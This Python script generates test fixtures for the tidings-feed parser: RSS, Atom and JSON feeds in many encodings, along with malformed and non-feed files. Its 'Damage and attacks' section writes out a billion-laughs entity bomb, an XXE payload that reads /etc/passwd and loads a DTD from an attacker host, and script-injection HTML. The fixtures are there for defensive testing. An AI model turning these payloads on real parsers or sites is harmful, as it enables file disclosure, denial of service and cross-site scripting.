#!/usr/bin/env python3
"""Writes the test corpus of tidings-feed: feeds written for the project, one per format and
case, in the encodings the tests need. The bytes are committed; rerun this only to change them
(`python3 testdata/generate.py` from crates/feed), then review the snapshot changes."""

import codecs
import os

HERE = os.path.dirname(os.path.abspath(__file__))
FEEDS = os.path.join(HERE, "feeds")
NOT_FEEDS = os.path.join(HERE, "not-feeds")


def write(folder, name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


HTML_BODY = (
    '<p>Intro with <a href="/post/1" onclick="steal()">a relative link</a> and '
    '<img src="https://img.example.com/a.png" alt="A" onerror="x()"> '
    '<img src="http://img.example.com/insecure.png"></p><script>alert(1)</script>'
)

# ------------------------------------------------------------------------------------------
# RSS family

write(FEEDS, "rss090.rdf", """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://my.netscape.com/rdf/simple/0.9/">
  <channel>
    <title>Mozilla Dot Org</title>
    <link>http://www.mozilla.org</link>
    <description>the Mozilla Organization web site</description>
  </channel>
  <image><title>Mozilla</title><url>http://www.mozilla.org/images/moz.gif</url><link>http://www.mozilla.org</link></image>
  <item><title>New Status Updates</title><link>http://www.mozilla.org/status/</link></item>
  <item><title>Bugzilla Reorganized</title><link>http://www.mozilla.org/bugs/</link></item>
</rdf:RDF>
""")

write(FEEDS, "rss091.xml", """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91">
  <channel>
    <title>WriteTheWeb&nbsp;News</title>
    <link>http://writetheweb.example/</link>
    <description>News for web users that write back&hellip;</description>
    <language>en-us</language>
    <managingEditor>editor@writetheweb.example (Ed Itor)</managingEditor>
    <item>
      <title>Giving the world a pluggable Gnutella&hellip; &amp;nbsp;again</title>
      <link>http://writetheweb.example/read.php?item=24</link>
      <description>WorldOS is a framework on which to build programs that work like Freenet or Gnutella&#8212;allowing distributed applications using peer-to-peer routing.</description>
    </item>
    <item>
      <title>Syndication discussions hot up</title>
      <link>http://writetheweb.example/read.php?item=23</link>
      <description>After a period of dormancy, the Syndication mailing list has become active again, with contributions from leaders in traditional media and Web syndication.</description>
    </item>
  </channel>
</rss>
""".encode("iso-8859-1"))

write(FEEDS, "rss092.xml", """<?xml version="1.0"?>
<rss version="0.92">
  <channel>
    <title>Dave Winer: Grateful Dead</title>
    <link>http://www.scripting.example/blog/categories/gratefulDead.html</link>
    <description>A high-fidelity Grateful Dead song every day.</description>
    <lastBuildDate>Fri, 13 Apr 2001 19:23:02 GMT</lastBuildDate>
    <item>
      <description>It's been a few days since I added a song to the Grateful Dead channel.</description>
      <enclosure url="http://www.scripting.example/mp3s/weatherReportSuite.mp3" length="12216320" type="audio/mpeg" />
    </item>
    <item>
      <description>Kevin Drennan started a &lt;a href="http://deadend.example/"&gt;Grateful Dead Chat&lt;/a&gt;.</description>
      <enclosure url="http://www.scripting.example/mp3s/californiaEarthquake.mp3" length="0" type="audio/mpeg" />
    </item>
  </channel>
</rss>
""")

write(FEEDS, "rss10.rdf", """<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF
  xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
  xmlns:dc="http://purl.org/dc/elements/1.1/"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns="http://purl.org/rss/1.0/">
  <channel rdf:about="http://xml.example/xml/news.rss">
    <title>XML.example</title>
    <link>http://xml.example/</link>
    <description>XML.example features a rich mix of information and services for the XML community.</description>
    <dc:date>2024-03-05T10:00:00+09:00</dc:date>
    <items><rdf:Seq><rdf:li resource="http://xml.example/pub/2000/08/09/xslt/xslt.html" /></rdf:Seq></items>
  </channel>
  <item rdf:about="http://xml.example/pub/2000/08/09/xslt/xslt.html">
    <title>Processing Inclusions with XSLT</title>
    <link>http://xml.example/pub/2000/08/09/xslt/xslt.html</link>
    <description>Processing document inclusions with general XML tools can be problematic.</description>
    <content:encoded><![CDATA[<p>The <em>full</em> article.</p>]]></content:encoded>
    <dc:creator>Bob DuCharme</dc:creator>
    <dc:subject>XSLT</dc:subject>
    <dc:date>2024-03-05T10:00:00+09:00</dc:date>
  </item>
  <item rdf:about="http://xml.example/pub/2000/08/09/rdfdb/index.html">
    <title>Putting RDF to Work</title>
    <link>http://xml.example/pub/2000/08/09/rdfdb/index.html</link>
    <dc:date>2024-03-04</dc:date>
  </item>
</rdf:RDF>
""")

write(FEEDS, "rss20_full.xml", f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:dc="http://purl.org/dc/elements/1.1/"
  xmlns:atom="http://www.w3.org/2005/Atom"
  xmlns:media="http://search.yahoo.com/mrss/"
  xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
  <channel>
    <title>  Example   <b>Blog</b>  </title>
    <link>https://blog.example.com/</link>
    <description>Posts &amp;amp; notes&nbsp;about things</description>
    <language>en</language>
    <lastBuildDate>Tue, 05 Mar 2024 10:00:00 +0000</lastBuildDate>
    <atom:link rel="self" href="https://blog.example.com/feed.xml" type="application/rss+xml"/>
    <atom:link rel="hub" href="https://hub.example.com/"/>
    <image><url>/logo.png</url></image>
    <item>
      <title>content:encoded wins over description</title>
      <link>https://blog.example.com/posts/1</link>
      <guid isPermaLink="false">post-1</guid>
      <description>Short summary.</description>
      <content:encoded><![CDATA[{HTML_BODY}]]></content:encoded>
      <pubDate>Tue, 05 Mar 2024 10:00:00 +0900</pubDate>
      <dc:creator>Jane Doe</dc:creator>
      <category>Rust</category>
      <category>rust</category>
      <category>Rust</category>
      <category>  Feeds &amp;amp; Readers </category>
    </item>
    <item>
      <title>Permalink guid is the link</title>
      <guid>https://blog.example.com/posts/2</guid>
      <description>&lt;p&gt;Escaped &lt;b&gt;HTML&lt;/b&gt; description&lt;/p&gt;</description>
      <author>jane@example.com (Jane Doe)</author>
    </item>
    <item>
      <title>guid isPermaLink=false is not a link</title>
      <guid isPermaLink="false">https://blog.example.com/posts/3</guid>
      <description>&amp;lt;p&amp;gt;Double &amp;amp;amp; escaped&amp;lt;/p&amp;gt;</description>
    </item>
    <item xml:base="https://other.example.org/base/">
      <title>xml:base resolves relative links</title>
      <link>relative/page.html</link>
      <description><![CDATA[<a href="sub/x.html">x</a> <img src="pic.jpg">]]></description>
      <enclosure url="audio.mp3" type="audio/mpeg" length="1234"/>
    </item>
    <item>
      <title>Relative link against the feed URL</title>
      <link>/posts/5</link>
      <description>Unescaped <b>markup</b> in a description</description>
    </item>
    <item>
      <title>Podcast episode with media</title>
      <link>https://blog.example.com/posts/6</link>
      <enclosure url="https://cdn.example.com/ep6.mp3" type="audio/mpeg" length="5000000"/>
      <media:content url="https://cdn.example.com/ep6.mp4" type="video/mp4" fileSize="9000000" medium="video"/>
      <media:group>
        <media:content url="https://cdn.example.com/ep6-hd.mp4" type="video/mp4"/>
        <media:thumbnail url="https://cdn.example.com/ep6-thumb.jpg" width="320" height="180"/>
      </media:group>
      <media:thumbnail url="https://cdn.example.com/ep6.png"/>
      <itunes:image href="https://cdn.example.com/ep6-cover.jpg"/>
      <itunes:author>The Podcast Team</itunes:author>
      <pubDate>Wed, 06 Mar 2024 08:30:00 GMT</pubDate>
    </item>
    <item>
      <description>No title, no link, no guid: identity from content hash.</description>
    </item>
  </channel>
</rss>
""")

DATES = [
    "Tue, 05 Mar 2024 10:00:00 GMT",
    "Tue, 05 Mar 2024 10:00:00 +0900",
    "05 Mar 2024 10:00:00 +0000",
    "Fri, 05 Mar 2024 10:00:00 GMT",
    "Tue, 05 mar 2024 10:00:00 GMT",
    "Tue, 05 Mar 24 10:00:00 GMT",
    "Tue, 05 Mar 2024 10:00 JST",
    "Tue, 05 Mar 2024 10:00:00 KST",
    "Tue, 05 Mar 2024 10:00:00 CET",
    "Tue, 05 Mar 2024 10:00:00 EST",
    "Tue, 05 Mar 2024 10:00:00 PDT",
    "Tue, 05 Mar 2024 10:00:00 UT",
    "Tue, 05 Mar 2024 10:00:00 Z",
    "Tue, 05 Mar 2024 10:00:00 +09:00",
    "2024-03-05T10:00:00+09:00",
    "2024-03-05T10:00:00.123Z",
    "2024-03-05",
    "2024-03-05 10:00:00",
    "2024年3月5日 10:00",
    "not a date at all",
    "",
]
items = "\n".join(
    f"    <item><title>date {i}: {d}</title><guid isPermaLink=\"false\">d{i}</guid><pubDate>{d}</pubDate></item>"
    for i, d in enumerate(DATES)
)
write(FEEDS, "rss20_dates.xml", f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Dates</title><link>https://dates.example/</link>
{items}
    <item><title>dc:date only</title><guid isPermaLink="false">dc</guid><dc:date xmlns:dc="http://purl.org/dc/elements/1.1/">2024-03-05T10:00:00-05:00</dc:date></item>
</channel></rss>
""")

# ------------------------------------------------------------------------------------------
# Atom

write(FEEDS, "atom10_full.xml", f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://atom.example.com/blog/" xml:lang="en">
  <title type="html">Atom &lt;em&gt;Example&lt;/em&gt; &amp;amp; co</title>
  <subtitle type="text">A feed &amp; its subtitle</subtitle>
  <link href="https://atom.example.com/feed.atom" rel="self" type="application/atom+xml"/>
  <link href="/" rel="alternate" type="text/html"/>
  <link href="https://hub.example.com/" rel="hub"/>
  <updated>2024-03-05T10:00:00Z</updated>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <author><name>Feed Author</name><email>feed@example.com</email></author>
  <icon>/favicon.ico</icon>
  <entry>
    <title type="text">Text title with &lt;tags&gt; kept &amp;amp; literal</title>
    <link rel="edit" href="https://atom.example.com/edit/1"/>
    <link rel="alternate" type="application/pdf" href="entry-1.pdf"/>
    <link rel="alternate" type="text/html" href="entry-1.html"/>
    <link rel="enclosure" type="audio/mpeg" length="1337" href="https://cdn.example.com/e1.mp3"/>
    <id>tag:atom.example.com,2024:1</id>
    <published>2024-03-05T10:00:00+09:00</published>
    <updated>2024-03-06T10:00:00+09:00</updated>
    <summary type="text">Plain &lt;summary&gt; text &amp; more</summary>
    <content type="html">{HTML_BODY.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}</content>
    <category term="atom" label="Atom"/>
    <category term="xml"/>
    <author><name>Entry Author</name></author>
    <author><name>Second Author</name></author>
  </entry>
  <entry xml:base="https://elsewhere.example.net/x/">
    <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">XHTML <b>title</b> &amp; more</div></title>
    <link href="entry-2"/>
    <id>tag:atom.example.com,2024:2</id>
    <updated>2024-03-07T00:00:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>XHTML <a href="rel/link">content</a> with <img src="i.png"/> &amp; entities</p><script>alert(1)</script></div></content>
  </entry>
  <entry>
    <title>Out-of-line content, no alternate link</title>
    <id>tag:atom.example.com,2024:3</id>
    <updated>2024-03-08T00:00:00Z</updated>
    <content src="https://atom.example.com/blog/entry-3.html" type="text/html"/>
    <link rel="related" href="https://related.example.org/"/>
  </entry>
  <entry>
    <title>Text content</title>
    <id>tag:atom.example.com,2024:4</id>
    <link rel="alternate" href="entry-4"/>
    <updated>2024-03-09T00:00:00Z</updated>
    <content>Line one &lt;not a tag&gt;
Line two &amp; three</content>
  </entry>
  <entry>
    <title>Only a summary (html)</title>
    <id>tag:atom.example.com,2024:5</id>
    <link href="entry-5"/>
    <updated>2024-03-10T00:00:00Z</updated>
    <summary type="html">&lt;p&gt;Summary &lt;i&gt;only&lt;/i&gt;&lt;/p&gt;</summary>
  </entry>
</feed>
""")

write(FEEDS, "atom03.xml", """<?xml version="1.0" encoding="utf-8"?>
<feed version="0.3" xmlns="http://purl.org/atom/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <title>Atom 0.3 Example</title>
  <tagline>An old-style tagline</tagline>
  <link rel="alternate" type="text/html" href="http://old.example.org/"/>
  <modified>2003-12-13T18:30:02Z</modified>
  <author><name>Mark Pilgrim</name></author>
  <entry>
    <title>Atom 0.3 snapshot</title>
    <link rel="alternate" type="text/html" href="http://old.example.org/2003/12/13/atom03"/>
    <id>tag:old.example.org,2003:3.2397</id>
    <issued>2003-12-13T08:29:29-04:00</issued>
    <modified>2003-12-13T18:30:02Z</modified>
    <summary type="text/plain">A summary</summary>
    <content type="text/html" mode="escaped">&lt;p&gt;Escaped &lt;b&gt;HTML&lt;/b&gt;&lt;/p&gt;</content>
    <dc:subject>history</dc:subject>
  </entry>
  <entry>
    <title>Inline XML content</title>
    <link rel="alternate" type="text/html" href="http://old.example.org/2003/12/14/xml"/>
    <id>tag:old.example.org,2003:3.2398</id>
    <issued>2003-12-14T08:29:29Z</issued>
    <content type="application/xhtml+xml" mode="xml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Inline</p></div></content>
  </entry>
</feed>
""")

# ------------------------------------------------------------------------------------------
# JSON Feed

write(FEEDS, "jsonfeed10.json", """{
  "version": "https://jsonfeed.org/version/1",
  "title": "JSON Feed 1.0 &amp; friends",
  "home_page_url": "https://json.example.org/",
  "feed_url": "https://json.example.org/feed.json",
  "description": "Version one",
  "author": {"name": "Old Author", "url": "https://json.example.org/me"},
  "items": [
    {"id": 1, "content_text": "Numeric id, text content <b>not markup</b>\\nsecond line", "external_url": "https://elsewhere.example.com/a", "date_published": "2024-03-05T10:00:00+09:00"},
    {"id": "2", "url": "/posts/2", "title": "Relative url", "content_html": "<p>Hello <a href=\\"/x\\">x</a></p>", "date_modified": "2024-03-06T00:00:00Z", "tags": ["one", "two", "one"]}
  ]
}
""")

write(FEEDS, "jsonfeed11.json", """{
  "version": "https://jsonfeed.org/version/1.1",
  "title": "JSON Feed 1.1",
  "home_page_url": "https://json.example.org/",
  "feed_url": "https://json.example.org/feed.json",
  "language": "ja",
  "authors": [{"name": "Feed Author"}],
  "hubs": [{"type": "WebSub", "url": "https://hub.example.com/"}],
  "items": [
    {
      "id": "https://json.example.org/posts/1",
      "url": "https://json.example.org/posts/1",
      "title": "Full item",
      "summary": "A <summary> in plain text",
      "content_html": "<p>Body <script>alert(1)</script><img src=\\"https://json.example.org/i.png\\"></p>",
      "image": "https://json.example.org/cover.png",
      "date_published": "2024-03-05T10:00:00Z",
      "date_modified": "2024-03-05T11:00:00Z",
      "authors": [{"name": "Item Author"}, {"name": "Co Author"}],
      "tags": ["json", "feeds"],
      "attachments": [{"url": "https://cdn.example.com/a.mp3", "mime_type": "audio/mpeg", "size_in_bytes": 123456, "duration_in_seconds": 60}]
    },
    {"id": "no-author", "content_html": "<p>inherits the feed author</p>", "date_published": "garbage"}
  ]
}
""")

# ------------------------------------------------------------------------------------------
# Encodings

JA_RSS = """<rss version="2.0"><channel><title>日本語のブログ</title><link>https://ja.example.jp/</link>
<description>テスト用のフィードです</description>
<item><title>こんにちは、世界&hellip;</title><link>https://ja.example.jp/1</link>
<description>本文です。「引用」と①②③。</description><pubDate>Tue, 05 Mar 2024 10:00:00 JST</pubDate></item>
</channel></rss>
"""
write(FEEDS, "ja_shift_jis_declared.xml", ('<?xml version="1.0" encoding="Shift_JIS"?>\n' + JA_RSS).encode("cp932"))
write(FEEDS, "ja_euc_jp_declared.xml", ('<?xml version="1.0" encoding="EUC-JP"?>\n' + JA_RSS.replace("①②③", "")).encode("euc_jp"))
write(FEEDS, "ja_shift_jis_http_only.xml", ('<?xml version="1.0"?>\n' + JA_RSS).encode("cp932"))
write(FEEDS, "ja_iso_2022_jp.xml", ('<?xml version="1.0" encoding="ISO-2022-JP"?>\n' + JA_RSS.replace("①②③", "")).encode("iso2022_jp"))
write(FEEDS, "ja_stale_declaration.xml", '<?xml version="1.0" encoding="Shift_JIS"?>\n' + JA_RSS)
write(FEEDS, "bom_and_whitespace.xml", codecs.BOM_UTF8 + b"\n  \r\n\t" + ('<?xml version="1.0" encoding="utf-8"?>\n' + JA_RSS).encode("utf-8"))
write(FEEDS, "utf16le_bom.xml", codecs.BOM_UTF16_LE + ('<?xml version="1.0" encoding="UTF-16"?>\n' + JA_RSS).encode("utf-16-le"))

def small_rss(title, description):
    return f"<rss version=\"2.0\"><channel><title>{title}</title><link>https://enc.example/</link><item><title>{title}</title><guid isPermaLink=\"false\">1</guid><description>{description}</description></item></channel></rss>\n"

for name, label, codec, title, desc in [
    ("zh_gb18030.xml", "GB18030", "gb18030", "中文博客", "简体中文内容"),
    ("zh_big5.xml", "Big5", "big5", "中文部落格", "繁體中文內容"),
    ("ko_euc_kr.xml", "EUC-KR", "euc_kr", "한국어 블로그", "내용입니다"),
    ("ru_windows_1251.xml", "windows-1251", "cp1251", "Русский блог", "Содержание"),
    ("cz_iso_8859_2.xml", "ISO-8859-2", "iso8859_2", "Český blog", "Žluťoučký kůň"),
    ("fr_windows_1252.xml", "windows-1252", "cp1252", "Café “quotes”", "Crème brûlée"),
    ("de_iso_8859_15.xml", "ISO-8859-15", "iso8859_15", "Preis in €", "Größe"),
]:
    write(FEEDS, name, (f'<?xml version="1.0" encoding="{label}"?>\n' + small_rss(title, desc)).encode(codec))

# ------------------------------------------------------------------------------------------
# Damage and attacks

write(FEEDS, "truncated.xml", """<?xml version="1.0"?>
<rss version="2.0"><channel><title>Cut off</title><link>https://cut.example/</link>
<item><title>Complete item</title><link>https://cut.example/1</link></item>
<item><title>Second complete item</title><link>https://cut.example/2</link></item>
<item><title>Incomplete item</title><link>https://cut.example/3</link><description>This item was cut o""")

write(FEEDS, "billion_laughs.xml", """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><link>https://lol.example/</link>
<item><title>&lol9;&lol9;</title><description>&lol9;</description><guid isPermaLink="false">lol</guid></item>
</channel></rss>
""")

write(FEEDS, "xxe.xml", """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
  %remote;
]>
<rss version="2.0"><channel><title>XXE &xxe;</title><link>https://xxe.example/</link>
<item><title>secret: &xxe;</title><guid isPermaLink="false">xxe</guid><description>&xxe;</description></item>
</channel></rss>
""")

write(FEEDS, "junk_before_xml.xml", """Warning: Cannot modify header information in /var/www/feed.php on line 3
<?xml version="1.0"?><rss version="2.0"><channel><title>After junk</title><link>https://junk.example/</link></channel></rss>
""")

write(FEEDS, "undeclared_prefixes.xml", """<?xml version="1.0"?>
<rss version="2.0"><channel><title>Undeclared prefixes</title><link>https://undeclared.example/</link>
<item><title>Uses content: and dc: without xmlns</title><link>https://undeclared.example/1</link>
<content:encoded><![CDATA[<p>Full</p>]]></content:encoded><dc:creator>Someone</dc:creator><dc:date>2024-03-05T00:00:00Z</dc:date></item>
</channel></rss>
""")

# ------------------------------------------------------------------------------------------
# Not feeds

write(NOT_FEEDS, "html_page.html", """<!DOCTYPE html>
<html><head><title>A page</title>
<link rel="alternate" type="application/rss+xml" href="/feed.xml"></head><body><p>Hello</p></body></html>
""")
write(NOT_FEEDS, "xhtml_page.xml", """<?xml version="1.0"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body/></html>
""")
write(NOT_FEEDS, "sitemap.xml", """<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://a.example/</loc></url></urlset>
""")
write(NOT_FEEDS, "garbage.bin", bytes(range(256)) * 4)
write(NOT_FEEDS, "empty.xml", b"   \n  ")
write(NOT_FEEDS, "json_not_feed.json", '{"name": "package", "dependencies": {}}\n')
write(NOT_FEEDS, "broken_json.json", '{"version": "https://jsonfeed.org/version/1.1", "items": [\n')
write(NOT_FEEDS, "plain_text.txt", "This is just some text, not a feed.\n")
